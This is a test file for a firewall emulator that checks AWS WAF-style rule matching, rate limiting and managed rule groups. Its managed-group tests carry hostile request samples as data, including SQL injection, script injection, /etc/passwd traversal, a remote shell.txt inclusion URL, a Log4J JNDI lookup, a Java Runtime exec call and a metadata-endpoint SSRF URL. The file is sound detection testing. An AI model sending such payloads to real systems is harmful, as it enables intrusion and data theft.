import { seconds } from '@terrace/kit'
import type { FirewallStatement } from '@terrace/model'
import { describe, expect, it } from 'vitest'
import type { RequestFacts } from './facts.ts'
import { compileFirewall } from './firewall.ts'
import { facts, managed, onField, onPath, rule, webAcl } from './testing.ts'

const decide = (config: Parameters<typeof compileFirewall>[0], request: Partial<RequestFacts> = {}) =>
  compileFirewall(config, 0).decide(facts(request), 0)
const base64 = (text: string) => Buffer.from(text).toString('base64')
const byte = (
  field: Parameters<typeof onField>[0],
  text: string,
  PositionalConstraint: NonNullable<FirewallStatement['ByteMatchStatement']>['PositionalConstraint'],
  ...types: string[]
): FirewallStatement => ({
  ByteMatchStatement: { ...onField(field, ...types), SearchString: base64(text), PositionalConstraint },
})

describe('a statement', () => {
  const SET = 'arn:set'
  const yes = facts({
    method: 'POST',
    path: '/Admin/a',
    query: 'id=7&name=%3Cscript%3E',
    headers: ['Cookie', 'a=1; session=abc', 'X-Forwarded-For', '198.51.100.1, 10.0.0.1', 'X-Long', 'y'.repeat(50)],
    body: '{"a":{"b":"secret"},"c":[1,"union select password"]}',
  })
  const json = (scope: 'KEY' | 'VALUE', paths?: string[]): Parameters<typeof onField>[0] => ({
    JsonBody: { MatchPattern: paths ? { IncludedPaths: paths } : { All: {} }, MatchScope: scope },
  })
  it.each<[string, boolean, FirewallStatement]>([
    ['finds a text at the beginning of the path', true, byte({ UriPath: {} }, '/Adm', 'STARTS_WITH')],
    ['looks at the case', false, byte({ UriPath: {} }, '/adm', 'STARTS_WITH')],
    ['finds it in small letters', true, byte({ UriPath: {} }, '/adm', 'STARTS_WITH', 'LOWERCASE')],
    ['finds a word', true, byte({ UriPath: {} }, 'Admin', 'CONTAINS_WORD')],
    ['finds no part of a word', false, byte({ UriPath: {} }, 'Adm', 'CONTAINS_WORD')],
    ['finds the end', true, byte({ QueryString: {} }, '%3E', 'ENDS_WITH')],
    ['finds the method', true, byte({ Method: {} }, 'POST', 'EXACTLY')],
    ['finds a single argument by its name', true, byte({ SingleQueryArgument: { Name: 'ID' } }, '7', 'EXACTLY')],
    ['finds script in an argument', true, { XssMatchStatement: onField({ AllQueryArguments: {} }, 'URL_DECODE') }],
    ['finds SQL in a value of JSON', true, { SqliMatchStatement: onField(json('VALUE')) }],
    ['finds a key of JSON', true, byte(json('KEY'), 'c', 'EXACTLY')],
    ['finds a value at a path of JSON', true, byte(json('VALUE', ['/a/b']), 'secret', 'EXACTLY')],
    ['finds nothing at another path', false, byte(json('VALUE', ['/a/x']), 'secret', 'EXACTLY')],
    [
      'finds a cookie',
      true,
      byte(
        {
          Cookies: {
            MatchPattern: { IncludedCookies: ['session'] },
            MatchScope: 'VALUE',
            OversizeHandling: 'CONTINUE',
          },
        },
        'abc',
        'EXACTLY',
      ),
    ],
    [
      'compares a size',
      true,
      {
        SizeConstraintStatement: {
          ...onField({ SingleHeader: { Name: 'x-long' } }),
          ComparisonOperator: 'EQ',
          Size: 50,
        },
      },
    ],
    ['finds an address', true, { IPSetReferenceStatement: { ARN: SET } }],
    [
      'finds an address that was passed on',
      true,
      {
        IPSetReferenceStatement: {
          ARN: SET,
          IPSetForwardedIPConfig: { HeaderName: 'X-Forwarded-For', FallbackBehavior: 'NO_MATCH', Position: 'FIRST' },
        },
      },
    ],
    ['is turned round', true, { NotStatement: { Statement: onPath('^/public') } }],
    ['needs all of them', false, { AndStatement: { Statements: [onPath('^/A'), onPath('^/B')] } }],
    ['needs one of them', true, { OrStatement: { Statements: [onPath('^/A'), onPath('^/B')] } }],
    [
      'finds one of a set of expressions',
      true,
      { RegexPatternSetReferenceStatement: { ...onField({ UriPath: {} }), ARN: SET } },
    ],
  ])('%s', (_, expected, statement) => {
    const config = webAcl([rule('it', statement)], {
      ipSets: { [SET]: ['203.0.113.0/24', '198.51.100.1/32'] },
      patternSets: { [SET]: ['nothing', 'in/a$'] },
    })
    expect(compileFirewall(config, 0).decide(yes, 0).action).toBe(expected ? 'BLOCK' : 'ALLOW')
  })
})

describe('rules', () => {
  it('are asked in the order of their priorities; what counts goes on and leaves its label to the next one', () => {
    const counted = rule('first', onPath('.'), { Action: { Count: {} }, RuleLabels: [{ Name: 'seen:path' }] })
    const labelled = rule('second', { LabelMatchStatement: { Scope: 'NAMESPACE', Key: 'seen:' } })
    const decision = decide(webAcl([counted, labelled]))
    expect(decision).toMatchObject({
      action: 'BLOCK',
      terminatingRule: 'second',
      counted: [{ ruleId: 'first', action: 'COUNT' }],
      labels: ['awswaf:123456789012:webacl:main:seen:path'],
    })
  })

  it('answer with a response of their own', () => {
    const Block = { CustomResponse: { ResponseCode: 429, CustomResponseBodyKey: 'slow' } }
    const bodies = { slow: { ContentType: 'APPLICATION_JSON', Content: '{"slow":true}' } } as const
    expect(
      decide(webAcl([rule('it', onPath('.'), { Action: { Block } })], { customResponseBodies: bodies })).response,
    ).toEqual({
      status: 429,
      custom: true,
      headers: [],
      body: { contentType: 'application/json', text: '{"slow":true}' },
    })
  })
})

describe('a rate', () => {
  const limited = (changes: object = {}) =>
    webAcl([
      rule('rate', { RateBasedStatement: { Limit: 10, EvaluationWindowSec: 60, AggregateKeyType: 'IP', ...changes } }),
    ])

  it('blocks an address from the next look on, lets others pass, and ends when the window has passed', () => {
    const firewall = compileFirewall(limited(), 0)
    const from = (address: string, at: number) => firewall.decide(facts({ address }), seconds(at)).action
    for (let turn = 0; turn < 11; turn++) expect(from('203.0.113.9', 1)).toBe('ALLOW')
    expect(from('203.0.113.9', 10)).toBe('BLOCK')
    expect(from('203.0.113.10', 10)).toBe('ALLOW')
    expect(Object.keys(Object.fromEntries(firewall.limited(seconds(10)).rate ?? []))).toEqual(['203.0.113.9'])
    expect(from('203.0.113.9', 80)).toBe('ALLOW')
  })

  it('is not reached by as many as the limit', () => {
    const firewall = compileFirewall(limited(), 0)
    for (let turn = 0; turn < 10; turn++) firewall.decide(facts(), 0)
    expect(firewall.decide(facts(), seconds(10)).action).toBe('ALLOW')
  })

  it('goes on when other rules change, and begins again when its own settings do', () => {
    const firewall = compileFirewall(limited(), 0)
    for (let turn = 0; turn < 11; turn++) firewall.decide(facts(), 0)
    const same = compileFirewall(limited(), seconds(5), firewall)
    expect(same.decide(facts(), seconds(10)).action).toBe('BLOCK')
    const other = compileFirewall(limited({ Limit: 11 }), seconds(5), same)
    expect(other.decide(facts(), seconds(20)).action).toBe('ALLOW')
  })

  it('counts by keys of its own, and not at all what lacks one', () => {
    const CustomKeys = [
      { Header: { Name: 'x-key', TextTransformations: [{ Priority: 0, Type: 'LOWERCASE' }] } },
      { HTTPMethod: {} },
    ]
    const firewall = compileFirewall(limited({ AggregateKeyType: 'CUSTOM_KEYS', CustomKeys }), 0)
    for (let turn = 0; turn < 11; turn++) {
      firewall.decide(facts({ headers: ['X-Key', 'A'] }), 0)
      firewall.decide(facts(), 0)
    }
    expect(firewall.decide(facts({ headers: ['X-Key', 'a'] }), seconds(10))).toMatchObject({
      action: 'BLOCK',
      rates: [
        { limitKey: 'CUSTOMKEYS', customValues: [{ key: 'HEADER', name: 'x-key', value: 'a' }, { key: 'METHOD' }] },
      ],
    })
    expect(firewall.decide(facts(), seconds(10)).action).toBe('ALLOW')
  })
})

describe('the size of a body', () => {
  const larger = (Size: number, OversizeHandling: 'CONTINUE' | 'NO_MATCH' = 'CONTINUE') =>
    webAcl([
      rule('it', {
        SizeConstraintStatement: { ...onField({ Body: { OversizeHandling } }), ComparisonOperator: 'GT', Size },
      }),
    ])
  // Source: WAF Developer Guide, "Size constraint rule statement": the size that AWS WAF receives, not that which was sent.
  it.each<[string, boolean, ReturnType<typeof larger>, Partial<RequestFacts>]>([
    ['is known up to what is looked at', true, larger(100), { body: 'a'.repeat(101) }],
    ['is not larger than itself', false, larger(100), { body: 'a'.repeat(100) }],
    ['is larger than what is looked at', true, larger(8192), { body: 'a'.repeat(8192), bodyIsLonger: true }],
    ['is not known beyond it', false, larger(9000), { body: 'a'.repeat(8192), bodyIsLonger: true, bodyLength: 50_000 }],
    ['is left to the rule’s own word', false, larger(100, 'NO_MATCH'), { body: 'a'.repeat(8192), bodyIsLonger: true }],
  ])('%s', (_, expected, config, request) => {
    expect(decide(config, request).action).toBe(expected ? 'BLOCK' : 'ALLOW')
  })
})

describe('a group of AWS', () => {
  const CORE = 'AWSManagedRulesCommonRuleSet'
  const KNOWN = 'AWSManagedRulesKnownBadInputsRuleSet'

  it('answers an action that the web ACL puts in the place of its own with a body of the web ACL', () => {
    const Block = { CustomResponse: { ResponseCode: 429, CustomResponseBodyKey: 'slow' } }
    const overridden = managed(CORE, { RuleActionOverrides: [{ Name: 'NoUserAgent_HEADER', ActionToUse: { Block } }] })
    const bodies = { slow: { ContentType: 'TEXT_PLAIN', Content: 'Slowly' } } as const
    expect(decide(webAcl([overridden], { customResponseBodies: bodies }), { headers: [] }).response).toMatchObject({
      status: 429,
      body: { text: 'Slowly' },
    })
  })

  it.each<[string, string, Partial<RequestFacts>]>([
    [CORE, 'NoUserAgent_HEADER', { headers: [] }],
    [CORE, 'UserAgent_BadBots_HEADER', { headers: ['User-Agent', 'sqlmap/1.8'] }],
    [CORE, 'SizeRestrictions_QUERYSTRING', { query: 'a'.repeat(2049) }],
    [CORE, 'SizeRestrictions_BODY', { body: 'a'.repeat(8192), bodyIsLonger: true }],
    [CORE, 'SizeRestrictions_URIPATH', { path: `/${'a'.repeat(1024)}` }],
    [CORE, 'EC2MetaDataSSRF_QUERYARGUMENTS', { query: 'url=http://169.254.169.254/latest' }],
    [CORE, 'GenericLFI_URIPATH', { path: '/a/..%2F..%2f../etc/passwd' }],
    [CORE, 'RestrictedExtensions_URIPATH', { path: '/config.ini' }],
    [CORE, 'GenericRFI_QUERYARGUMENTS', { query: 'page=http://203.0.113.1/shell.txt' }],
    [CORE, 'CrossSiteScripting_BODY', { body: 'text=%3Cscript%3Ealert(1)' }],
    [KNOWN, 'Log4JRCE_HEADER', { headers: ['User-Agent', `${'$'}{jndi:ldap://example.com/a}`] }],
    [KNOWN, 'JavaDeserializationRCE_BODY', { body: '(java.lang.Runtime).getRuntime().exec("id")' }],
    [KNOWN, 'Host_localhost_HEADER', { headers: ['Host', 'localhost'] }],
    [KNOWN, 'PROPFIND_METHOD', { method: 'PROPFIND' }],
    [KNOWN, 'ExploitablePaths_URIPATH', { path: '/.git/config' }],
    [KNOWN, 'Log4JRCE_HEADER', { headers: [`${'$'}{jndi:ldap://example.com/a}`, 'a'] }],
    ['AWSManagedRulesSQLiRuleSet', 'SQLi_URIPATH', { path: "/a' or '1'='1" }],
    ['AWSManagedRulesSQLiRuleSet', 'SQLiExtendedPatterns_HEADER', { headers: ['Referer', 'group_concat(a)'] }],
    ['AWSManagedRulesSQLiRuleSet', 'SQLi_QUERYARGUMENTS', { query: 'id=1%27%20or%20%271%27=%271' }],
  ])('%s finds %s', (group, name, request) => {
    const decision = decide(webAcl([managed(group)]), request)
    expect(decision.groups).toMatchObject([
      { ruleGroupId: `AWS#${group}`, terminatingRule: { ruleId: name, action: 'BLOCK' } },
    ])
    expect(decision.terminatingType).toBe('MANAGED_RULE_GROUP')
  })

  it.each<[Partial<RequestFacts>]>([
    [{ headers: ['Host', 'items.localhost:4430', 'User-Agent', 'Mozilla/5.0 (X11; Linux x86_64)'] }],
    [{ path: '/api/v1/items', query: 'limit=20&q=union+square' }],
    [{ method: 'POST', body: '{"name":"Select a table","description":"It\'s from Ann & Bob, or not; order by mail"}' }],
    [
      {
        headers: [
          'User-Agent',
          'Mozilla/5.0',
          'Cookie',
          'session=abc; theme=dark',
          'Referer',
          'https://app.example.com/',
        ],
      },
    ],
  ])('lets ordinary requests pass', request => {
    const all = [managed(CORE), managed(KNOWN), managed('AWSManagedRulesSQLiRuleSet')]
    const ordinary = 'headers' in request ? request : { ...request, headers: facts().headers }
    expect(decide(webAcl(all), ordinary)).toMatchObject({ action: 'ALLOW', terminatingRule: 'Default_Action' })
  })

  it('can be told to count: a rule, by its name or as excluded, or the whole of it', () => {
    const empty = { headers: [] }
    const overridden = managed(CORE, {
      RuleActionOverrides: [{ Name: 'NoUserAgent_HEADER', ActionToUse: { Count: {} } }],
    })
    expect(decide(webAcl([overridden]), empty)).toMatchObject({
      action: 'ALLOW',
      labels: ['awswaf:managed:aws:core-rule-set:NoUserAgent_Header'],
      groups: [{ nonTerminatingMatchingRules: [{ ruleId: 'NoUserAgent_HEADER', overriddenAction: 'BLOCK' }] }],
    })
    const excluded = managed(CORE, { ExcludedRules: [{ Name: 'NoUserAgent_HEADER' }] })
    expect(decide(webAcl([excluded]), empty).groups[0]?.excludedRules).toEqual([
      { exclusionType: 'EXCLUDED_AS_COUNT', ruleId: 'NoUserAgent_HEADER' },
    ])
    const counting = { ...managed(CORE), OverrideAction: { Count: {} } }
    expect(decide(webAcl([counting]), empty)).toMatchObject({ action: 'ALLOW', counted: [{ ruleId: CORE }] })
  })

  it('looks only where its scope says', () => {
    const scoped = managed(CORE, { ScopeDownStatement: onPath('^/admin') })
    expect(decide(webAcl([scoped]), { headers: [] }).action).toBe('ALLOW')
  })
})
